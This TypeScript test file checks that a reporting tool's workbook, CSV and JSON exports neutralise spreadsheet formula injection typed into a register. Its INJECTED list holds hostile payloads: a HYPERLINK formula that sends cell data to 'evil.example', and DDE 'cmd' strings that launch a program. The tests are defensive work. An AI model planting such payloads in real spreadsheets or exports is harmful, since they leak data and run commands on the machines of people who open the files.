import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { buildReport } from "../../src/app/buildReport";
import { exportCouncil } from "../../src/app/exportCouncil";
import { exportFeed } from "../../src/app/exportFeed";
import type { IsoDate } from "../../src/core/register/dates";
import { createCouncilWorkbook } from "../../src/host/file/councilWorkbook";
import { FileWorkbook } from "../../src/host/file/fileWorkbook";
import { allCells, packageParts, readBack, registerBytes, sheetParts } from "./registerFixture";

// What an attacker types into a register that is later opened in Excel.
const INJECTED = ['=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1"];
const pick = (i: number) => INJECTED[i % INJECTED.length];

async function hostileRegister(): Promise<Uint8Array> {
  return registerBytes({
    Tiltak: INJECTED.map((_, i) => ({ ID: `T-${i + 1}`, Navn: pick(i), Eier: pick(i + 1), Segment: "Samstyring", Hovedmål: 1 })),
    Rapporter: INJECTED.map((_, i) => ({
      ID: `T-${i + 1}`,
      Periode: "2023-Q2",
      Fase: "Aktiv",
      Status: "Rød",
      Statusbegrunnelse: pick(i + 2),
      Risiko: "Rød",
      Risikobegrunnelse: pick(i + 3),
    })),
  });
}

/** Where the injected texts landed in a written workbook, and how each cell is stored. */
async function injectedCells(bytes: Uint8Array) {
  const cells = allCells(await readBack(bytes)).filter((c) => INJECTED.includes(c.value as string));
  return { cells, parts: await packageParts(bytes) };
}

// Each initiative's name, owner and status reason show on the Status sheet, and its risk reason on Risiko.
const EXPECTED_PER_SHEET = { Status: 3 * INJECTED.length, Risiko: 3 * INJECTED.length };

function expectInert({ cells, parts }: Awaited<ReturnType<typeof injectedCells>>) {
  // Every hostile text shows up, exactly as typed, as a text cell; no sheet holds a formula.
  for (const [sheet, least] of Object.entries(EXPECTED_PER_SHEET)) {
    const here = cells.filter((c) => c.sheet === sheet);
    expect(new Set(here.map((c) => c.value))).toEqual(new Set(INJECTED));
    expect(here.length).toBeGreaterThanOrEqual(least);
  }
  expect(cells.filter((c) => c.type !== ExcelJS.ValueType.String)).toEqual([]);
  expect(
    sheetParts(parts)
      .filter(([, xml]) => /<f[ >]/.test(xml))
      .map(([path]) => path),
  ).toEqual([]);
}

describe("text that looks like a formula", () => {
  it("stays inert text in the report written into the register", async () => {
    const port = await FileWorkbook.open(await hostileRegister(), "register.xlsx");
    await buildReport(port, { lang: "nb" });
    expectInert(await injectedCells(await port.save()));
  });

  it("stays inert text in the council workbook", async () => {
    const council = createCouncilWorkbook();
    const register = await FileWorkbook.open(await hostileRegister(), "register.xlsx");
    await exportCouncil(register, council, { lang: "nb", source: "register.xlsx", made: "2023-05-15" as IsoDate });
    expectInert(await injectedCells(await council.save()));
  });

  it("keeps a source file name that looks like a formula as text on the cover", async () => {
    const council = createCouncilWorkbook();
    const register = await FileWorkbook.open(await hostileRegister(), "register.xlsx");
    await exportCouncil(register, council, { lang: "nb", source: "C:\\data\\=1+1.xlsx", made: "2023-05-15" as IsoDate });
    const source = allCells(await readBack(await council.save())).find((c) => c.value === "=1+1.xlsx");
    expect(source).toMatchObject({ sheet: "Forside", type: ExcelJS.ValueType.String });
  });

  it("gets a leading apostrophe in initiatives.csv, read with a CSV parser", async () => {
    const { files } = await exportFeed(await FileWorkbook.open(await hostileRegister(), "register.xlsx"));
    const [header, ...rows] = parse(files["initiatives.csv"], { bom: true, columns: false });
    const at = (key: string) => header.indexOf(key);
    expect(rows).toHaveLength(INJECTED.length);
    for (const row of rows) {
      for (const key of ["name", "owner", "statusReason", "riskReason"]) {
        expect(INJECTED.map((t) => `'${t}`)).toContain(row[at(key)]);
      }
    }
  });

  it("is kept as typed in initiatives.json and summary.json, where it is only text", async () => {
    const { files } = await exportFeed(await FileWorkbook.open(await hostileRegister(), "register.xlsx"));
    const feed = JSON.parse(files["initiatives.json"]) as { initiatives: Array<Record<string, string>> };
    expect(new Set(feed.initiatives.map((r) => r.name))).toEqual(new Set(INJECTED));
    expect(new Set(feed.initiatives.map((r) => r.riskReason))).toEqual(new Set(INJECTED));
    const summary = JSON.parse(files["summary.json"]);
    expect(new Set(summary.initiatives.new.map((r: { name: string }) => r.name))).toEqual(new Set(INJECTED));
  });
});
